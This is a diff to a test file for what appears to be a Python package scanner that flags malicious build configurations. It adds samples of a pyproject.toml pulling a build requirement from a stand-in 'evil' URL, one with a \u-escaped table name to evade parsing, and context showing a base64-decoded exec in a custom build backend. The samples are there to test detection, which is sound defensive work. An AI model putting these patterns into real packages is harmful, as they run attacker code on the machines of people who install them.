@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gc
 from collections import Counter
 
 import pytest
@@ -165,6 +166,11 @@ CASES = [
     ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = ['evil @ https://x.example/e.zip']\n"
                                  "build-backend = 'setuptools.build_meta'\n"},
      "code.build-backend", M, "a build requirement from a URL"),
+    ({"demo-1.0/pyproject.toml": '["build\\u002dsystem"]\nrequires = [\'evil @ https://x.example/e.zip\']\n'
+                                 "build-backend = 'setuptools.build_meta'\n"},
+     "code.build-backend", M, "a table name spelled with a \\u escape is still read"),
+    ({"demo-1.0/pyproject.toml": "[project]\nname = 'demo'\n"}, "code.build-backend", None,
+     "a pyproject.toml without a build-system table"),
     ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'backend'\n"
                                  "backend-path = ['_build']\n",
       "demo-1.0/_build/backend.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
@@ -384,3 +390,12 @@ def test_caps_per_member_and_per_archive() -> None:
     found = [f for f in scan(files, WHEEL) if f.check_id == "code.shady-url"]
     per_path = Counter(f.evidence["path"] for f in found)
     assert per_path == {"mod0.py": 5, "mod1.py": 5, "mod2.py": 5, "mod3.py": 5}
+
+
+def test_check_code_leaves_a_disabled_collector_disabled() -> None:
+    gc.disable()
+    try:
+        scan(setup_py("import os\nos.system('make')\n"))
+        assert not gc.isenabled()
+    finally:
+        gc.enable()
